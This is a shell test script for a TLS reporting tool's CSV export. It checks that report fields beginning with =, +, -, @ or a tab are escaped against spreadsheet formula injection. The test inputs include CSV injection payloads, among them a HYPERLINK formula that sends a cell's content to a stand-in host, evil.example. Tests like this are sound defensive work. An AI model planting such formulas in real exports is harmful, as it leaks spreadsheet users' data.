#!/bin/bash
# tests/rptparse/csv.t - "stsctl report export --csv" of hostile reports:
# an organization-name, a failure-reason-code and an
# additional-information that begin with =HYPERLINK(, +, -, @ or a tab
# (CSV injection: a spreadsheet would run them as formulas) come out as
# text: quoted, with a leading "'", the rest as it came (the tab as
# "\t": no control character reaches the terminal); the other cells are
# as they were; a CSV reader gets one row per failure detail.  The cells
# are made by lib/csv, as those of the portal's export.csv.
# SPDX-License-Identifier: ISC
source "$SRCDIR/tests/lib.sh"
source "$SRCDIR/tests/rptparse/instance.sh"
t_need jq python3

# The reports come unsigned: they count with report_require_dkim = no.
rp_begin "report_require_dkim = no"
quiet $STSCTL domain add example.com --mx mx1.example.com

# report N PREFIX: a report whose text fields begin with PREFIX.
report() {
	jq -n -c --arg p "$2" --arg id "csv-$1" '{
	    "organization-name": ($p + "Org \($id)"),
	    "date-range": {"start-datetime": "2026-11-20T00:00:00Z",
	        "end-datetime": "2026-11-20T23:59:59Z"},
	    "contact-info": "tls@sender.example", "report-id": $id,
	    "policies": [{"policy": {"policy-type": "sts",
	        "policy-string": ["version: STSv1", "mode: testing"],
	        "policy-domain": "example.com", "mx-host": ["mx1.example.com"]},
	      "summary": {"total-successful-session-count": 10,
	        "total-failure-session-count": 2},
	      "failure-details": [{"result-type": "validation-failure",
	        "sending-mta-ip": "198.51.100.7",
	        "receiving-mx-hostname": "mx1.example.com",
	        "failed-session-count": 2,
	        "failure-reason-code": ($p + "reason \($id)"),
	        "additional-information": ($p + "info \($id)")}]}]}'
}
PREFIXES=('=HYPERLINK("http://evil.example/?"&A1,"click")+' '+1+' '-1+' '@SUM(1+1)+' $'\t=1+')
n=0
for p in "${PREFIXES[@]}"; do
	n=$((n + 1))
	report $n "$p" >"$T/r$n.json"
	rp_https application/tlsrpt+json "$T/r$n.json" >"$T/r$n.msg"
	rp_put "$T/r$n.msg" >/dev/null
done
ok "rptparse stores the $n reports" rp_idle
is "$(rp_nstored)" "$n" "... each of them"

csv=$($STSCTL report export --csv)
is "$?" 0 "report export --csv exits 0"
printf '%s\n' "$csv" >"$T/out.csv"
unlike "$csv" $'\t' "no tab reaches the terminal"
is "$(head -1 "$T/out.csv")" \
	"report,organization-name,report-id,start-datetime,end-datetime,via,policy-type,policy-domain,hosted-domain,total-successful-session-count,total-failure-session-count,result-type,sending-mta-ip,receiving-mx-hostname,receiving-mx-helo,receiving-ip,failed-session-count,additional-information,failure-reason-code,dkim-result,dkim-domain,dkim-selector,dkim-reason,counts,counted" \
	"the head line: the columns of the portal's export"

# cells COLUMN: that column of each row, as a CSV reader reads it, in
# the order of the report ids, one a line (a tab shown as \t, as stsctl
# escapes it).
cells() {
	python3 -c '
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline="")))
rows.sort(key=lambda r: r["report-id"])
for r in rows:
    print(r[sys.argv[2]])' "$T/out.csv" "$1"
}
is "$(cells report-id | paste -sd' ')" "csv-1 csv-2 csv-3 csv-4 csv-5" \
	"a CSV reader reads a row of each report"
for col in organization-name:Org failure-reason-code:reason additional-information:info; do
	name=${col%%:*} word=${col#*:}
	want=$(n=0; for p in "${PREFIXES[@]}"; do
		n=$((n + 1)); printf "'%s%s csv-%d\n" "${p//$'\t'/\\t}" "$word" $n; done)
	is "$(cells "$name")" "$want" "$name: each begins with ' and then the text as it came"
done
# In the file itself each such cell is quoted and starts with '.
like "$(grep -c "\"'=HYPERLINK(\"\"http://evil\.example/?\"\"&A1,\"\"click\"\")+Org csv-1\"" "$T/out.csv")" '^1$' \
	'=HYPERLINK(...): quoted, its quotes doubled, after a leading apostrophe'
like "$(grep -c "\"'\\\\t=1+Org csv-5\"" "$T/out.csv")" '^1$' \
	"a leading tab: \"'\\t=1+Org ...\""
unsafe=$(python3 -c '
import csv, sys
for row in csv.reader(open(sys.argv[1], newline="")):
    for c in row:
        if c and c[0] in "=+-@\t\r":
            print(c)' "$T/out.csv")
is "$unsafe" "" "no cell that a spreadsheet would run as a formula"
is "$(cells result-type | sort -u)" validation-failure "the other cells are as they came"
is "$(cells failed-session-count | sort -u)" 2 "... numbers too"
done_testing
